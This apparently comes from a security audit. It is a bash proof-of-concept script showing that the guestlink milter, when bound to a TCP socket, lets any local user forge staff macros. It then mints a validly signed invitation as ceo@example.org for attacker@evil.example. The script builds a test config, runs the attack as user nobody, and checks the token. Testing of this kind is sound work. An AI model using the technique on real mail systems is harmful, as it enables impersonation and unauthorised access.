#!/bin/bash
# Finding 02: with `[milter] socket = inet:PORT@127.0.0.1` (accepted by the config and offered in
# docs/admin.md and the config table as the alternative to unix:, with no warning), ANY local user of the
# mail host mints invitations: the milter believes whatever macros its peer sends ({auth_authen} = any
# staff login) and hands the signed accept link back in SMFIR_REPLBODY. No mail is sent, no Postfix, no
# password, no log line on the MTA. The unix socket (0660, guestlink group) is the only thing that keeps
# local users out, and nothing says so or refuses inet.
#
# Here the user `nobody` mints an invitation signed as ceo@example.org for attacker@evil.example to
# https://teams.example.org/board/, and otpctl inspect (with the verify keys) says it is valid.
#
# Run from the tree (as root) after `make -j2 all`: bash findings/02-milter-inet-socket-mint.sh
# Exit 1: the attack works (a valid token came back to nobody); 0: refused; 2: setup failed.
cd "$(dirname "$0")/.." || exit 2
T=$(mktemp -d /tmp/rt2-milter.XXXXXX)
chmod 0755 "$T"
MPID=
trap '_r=$?; [ -n "$MPID" ] && kill "$MPID" 2>/dev/null && wait "$MPID" 2>/dev/null; rm -rf "$T"; exit $_r' EXIT
die() { echo "SETUP FAILED: $*" >&2; [ -f "$T/milter.log" ] && tail -5 "$T/milter.log" >&2; exit 2; }
port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
otpd/otpctl keygen "$T/keys" >/dev/null || die keygen
cat >"$T/guestlink.conf" <<EOC
[guestlink]
public_url = https://guest.example.org
org_name = Example University
internal_domains = example.org
[keys]
signing_key = $T/keys/link.key
verify_keys = $T/keys/
secret = $T/keys/otpd.secret
guest_key = $T/keys/guest.key
[milter]
socket = inet:$port@127.0.0.1
user = postfix
trusted_networks = 127.0.0.1/32
resources = https://teams.example.org/ https://wiki.example.org/space/
EOC
milter/guestlink-milter -c "$T/guestlink.conf" -n || die "config refused"
milter/guestlink-milter -c "$T/guestlink.conf" -f >"$T/milter.log" 2>&1 &
MPID=$!
for _ in $(seq 50); do python3 -c "import socket; socket.create_connection(('127.0.0.1',$port),1)" 2>/dev/null && break; sleep 0.1; done
cp findings/milterclient.py "$T/" && chmod 0644 "$T/milterclient.py"
out=$(runuser -u nobody -- python3 "$T/milterclient.py" 127.0.0.1 "$port" ceo@example.org attacker@evil.example \
	https://teams.example.org/board/ 2>&1)
echo "$out" | grep -v '^BODY' | sed 's/^/  nobody> /'
tok=$(printf '%s\n' "$out" | grep -o 'guest.example.org/accept/[A-Za-z0-9_-]*' | head -1 | sed 's|.*/accept/||')
if [ -z "$tok" ]; then echo "refused: no accept link came back"; exit 0; fi
insp=$(otpd/otpctl -c "$T/guestlink.conf" inspect "$tok" --email attacker@evil.example)
rc=$?
echo "otpctl inspect: $insp (exit $rc)"
if [ $rc = 0 ] && printf '%s' "$insp" | grep -q '"valid":true' && printf '%s' "$insp" | grep -q '"inviter":"ceo@example.org"'; then
	echo "ATTACK WORKS: the local user nobody minted a valid invitation as ceo@example.org"
	exit 1
fi
echo "refused"
exit 0
